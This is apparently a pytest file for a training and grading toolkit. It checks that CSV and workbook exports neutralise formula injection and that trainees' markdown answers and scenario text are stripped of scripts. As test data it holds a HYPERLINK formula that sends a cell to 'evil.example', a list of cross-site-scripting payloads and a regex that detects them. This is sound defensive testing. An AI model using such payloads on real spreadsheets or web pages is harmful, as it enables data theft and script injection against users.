"""HTML that cannot carry a script, and exports that cannot carry a formula."""

from __future__ import annotations

import csv
import re

import nbformat
import pandas as pd
import pytest
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from grading.coach.analytics import write_csv, write_workbook
from grading.exports.cells import neutralise, neutralised
from grading.pipeline.answers import SanitiseAnswers, escape_html, sanitise_markdown

EVIL = "<img src=x onerror=alert(1)>"

# --- spreadsheet cells ----------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(prefix):
    assert neutralise(prefix + "SUM(A1:A9)") == "'" + prefix + "SUM(A1:A9)"


@pytest.mark.parametrize("value", [0, 3, -2, 1.5, -0.25, float("inf"), None, True, "Ann Smith", "", "a=b", "'=quoted"])
def test_numbers_none_and_ordinary_text_pass_unchanged(value):
    assert neutralise(value) is value


def test_a_table_is_neutralised_in_its_text_columns_and_names_only():
    frame = pd.DataFrame({"trainee": ["=1+1", "ann"], "score": [-1.0, 2.0], "=col": ["@x", "-y"]})
    out = neutralised(frame)
    assert list(out.columns) == ["trainee", "score", "'=col"]
    assert out.trainee.tolist() == ["'=1+1", "ann"] and out["'=col"].tolist() == ["'@x", "'-y"]
    assert out.score.dtype == float and out.score.tolist() == [-1.0, 2.0]
    assert frame.trainee.tolist() == ["=1+1", "ann"], "the original table is left alone"


ATTACK_TABLE = pd.DataFrame({
    "Student": ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "Smith, Ann"],
    "comment": ["@SUM(1)", "Good work"],
    "score": [1.5, 3.0],
    "points": [2, -4],
})


def test_the_workbook_holds_no_formula_and_keeps_numbers(tmp_path):
    from openpyxl import load_workbook

    path = write_workbook(tmp_path / "cohort.xlsx", {"LMS import": ATTACK_TABLE, "=Sheet": pd.DataFrame({"=x": ["+1", "#N/A"]})})
    book = load_workbook(path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert cells and [c.coordinate for c in cells if c.data_type == "f"] == []
    ws = book["LMS import"]
    assert ws["A2"].value == "'" + ATTACK_TABLE.Student[0] and ws["A2"].data_type == "s"
    assert ws["B2"].value == "'@SUM(1)"
    assert ws["B3"].value == "Good work"
    assert (ws["C2"].value, ws["C2"].data_type) == (1.5, "n")
    assert (ws["D3"].value, ws["D3"].data_type) == (-4, "n")
    other = book["=Sheet"]
    assert other["A1"].value == "'=x" and other["A2"].value == "'+1"
    assert (other["A3"].value, other["A3"].data_type) == ("#N/A", "s"), "text that looks like an error code stays text"


def test_the_csv_exports_hold_no_formula_and_keep_numbers(tmp_path):
    path = write_csv(tmp_path / "grades-lms.csv", ATTACK_TABLE)
    rows = list(csv.reader(path.open(encoding="utf-8")))
    assert rows[0] == ["Student", "comment", "score", "points"]
    assert rows[1] == ["'" + ATTACK_TABLE.Student[0], "'@SUM(1)", "1.5", "2"]
    assert rows[2] == ["Smith, Ann", "Good work", "3.0", "-4"]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


# --- trainees' markdown answers -----------------------------------------------------------------------

UNCHANGED = [
    "Jess and Theo are safe tonight because Carol is staying over.",
    "YOUR ANSWER HERE",
    "- Carol stays overnight\n- Jess sees the clinic nurse on Monday\n- **Next visit**: Thursday",
    "[link](https://example.org)",
    "Write to [the coach](mailto:coach@example.org) or see [the plan](#the-plan).",
    "1. First\n2. Second\n\n> a quote with `code`\n",
    "",
]


@pytest.mark.parametrize("text", UNCHANGED)
def test_ordinary_markdown_is_returned_unchanged(text):
    assert sanitise_markdown(text) == text


ATTACKS = [
    EVIL,
    "Fine answer. <img src=x onerror=alert(1)>",
    "<script>alert(1)</script>Theo is safe.",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<svg onload=alert(1)><circle r=5 /></svg>",
    "[click me](javascript:alert(1))",
    "[click me](JaVa&#115;cript:alert(1))",
    "[click me][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![pic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<p style='background:url(javascript:alert(1))'>styled</p>",
    "<a href='javascript:alert(1)' onclick='alert(1)'>link</a>",
    "<div>[inside](javascript:alert(1))</div>\n\n**after**",
    "<details open ontoggle=alert(1)>x</details>",
]
DANGER = re.compile(r"<img|<script|<iframe|<svg|<details|\bon[a-z]+\s*=|javascript:|data:|style\s*=|vbscript:", re.IGNORECASE)


@pytest.mark.parametrize("text", ATTACKS)
def test_an_answer_cannot_carry_a_script(text):
    clean = sanitise_markdown(text)
    # as the source, and as nbconvert renders it for the formgrader and the feedback
    shown = markdown2html_mistune(clean)
    assert not DANGER.search(re.sub(r">[^<]*<", "><", f">{shown}<")), shown  # in tags and attributes
    assert "href=\"javascript" not in shown.lower() and "src=" not in shown.lower()
    assert sanitise_markdown(clean) == clean, "sanitising twice changes nothing"


def test_a_cleaned_answer_keeps_its_text_and_formatting():
    clean = sanitise_markdown("Theo (10 weeks) <b>must</b> be seen if risk < 3 & **Carol** agrees.\n\n"
                              "<script>steal()</script>\n\n- a [plan](https://example.org/plan)")
    assert clean.startswith("<div>\n") and clean.endswith("\n</div>")
    assert "\n\n" not in clean, "one HTML block: markdown never reads the rest again"
    assert "<b>must</b>" in clean and "<strong>Carol</strong>" in clean and "risk &lt; 3 &amp;" in clean
    assert '<li>a <a href="https://example.org/plan"' in clean
    assert "steal" not in clean


def test_code_with_blank_lines_stays_in_one_html_block():
    clean = sanitise_markdown("<i>note</i>\n\n```\nfirst\n\nsecond\n```\n")
    assert "\n\n" not in clean
    shown = markdown2html_mistune(clean)
    assert "<pre><code>first&#10;&#10;second" in shown.replace("\n", "&#10;")


def test_a_removed_wrapper_never_turns_text_into_a_link():
    shown = markdown2html_mistune(sanitise_markdown("<div>[inside](javascript:alert(1))</div>"))
    assert "<a" not in shown and "[inside](javascript:alert(1))" in shown


def test_escape_html_escapes_quotes_too():
    assert escape_html(EVIL) == "&lt;img src=x onerror=alert(1)&gt;"
    assert escape_html("O'Brien \"Jo\" & co") == "O&#x27;Brien &quot;Jo&quot; &amp; co"


def test_the_preprocessor_cleans_answers_and_unlocked_markdown_only():
    def nbgrader(**meta):
        return {"nbgrader": {"grade": False, "solution": False, "locked": False, "schema_version": 3, **meta}}

    cells = [
        nbformat.v4.new_markdown_cell(EVIL, metadata=nbgrader(grade=True, solution=True, grade_id="answer", points=2)),
        nbformat.v4.new_markdown_cell("YOUR ANSWER HERE", metadata=nbgrader(grade=True, solution=True, grade_id="untouched", points=2)),
        nbformat.v4.new_markdown_cell("<b>Instructions</b> <span style='color:red'>read this</span>",
                                      metadata=nbgrader(locked=True, grade_id="instructions")),
        nbformat.v4.new_markdown_cell("A note I added <script>alert(1)</script>"),
        nbformat.v4.new_code_cell("print('<script>alert(1)</script>')", metadata=nbgrader(solution=True, grade_id="code")),
    ]
    nb = nbformat.v4.new_notebook(cells=cells)
    out, resources = SanitiseAnswers().preprocess(nb, {"x": 1})
    assert resources == {"x": 1}
    answer, untouched, locked, added, code = (c.source for c in out.cells)
    assert "<img" not in answer and "onerror" not in answer
    assert untouched == "YOUR ANSWER HERE"
    assert locked == "<b>Instructions</b> <span style='color:red'>read this</span>", "a locked author cell is not touched"
    assert "<script" not in added and "A note I added" in added
    assert code == "print('<script>alert(1)</script>')", "code cells are not markdown"


# --- author text in the trainee's widgets ------------------------------------------------------------


@pytest.fixture
def evil_case(harlow):
    scenario = harlow.trainee_view().model_copy(deep=True)
    scenario.family.members[0].name = EVIL
    scenario.family.network[0].name = EVIL
    dp = scenario.decision_points[0]
    dp.situation = EVIL
    dp.prompt = EVIL
    dp.options[0].label = EVIL
    dp.options[0].consequence = EVIL
    answer = scenario.written_answers[0]
    answer.title, answer.prompt = EVIL, EVIL
    return scenario


def _safe(html: str) -> None:
    assert "&lt;img" in html
    assert "<img src=x" not in html


def test_scenario_text_is_escaped_in_the_widget_html(evil_case, tmp_path, monkeypatch):
    from curriculum.toolkit import CaseSession, views
    from curriculum.toolkit import session as session_module

    case = CaseSession(evil_case, tmp_path)
    dp = evil_case.decision_points[0]
    _safe(views.family_card(evil_case))
    _safe(views.decision_header(evil_case, dp))

    assert case.choose(dp.id, [dp.options[0].id]) is None
    _safe(views.consequence_html(case.moment(dp.id), case.opened_on))
    widget = case.decide(dp.id)
    _safe(widget.children[0].value)
    labels = {value: label for label, value in widget.choice.options}
    assert labels[dp.options[0].id] == EVIL, "a radio button label is plain text, shown as written"

    monkeypatch.setenv("NBGRADER_EXECUTION", "autograde")
    static = case.decide(dp.id).data
    _safe(static)
    assert static.count("&lt;img") >= 3  # situation, prompt, the decision recorded, its consequence

    shown = []
    monkeypatch.setattr(session_module, "display", lambda obj: shown.append(obj))
    case.show_prompt(evil_case.written_answers[0].id)
    _safe(shown[-1].data)
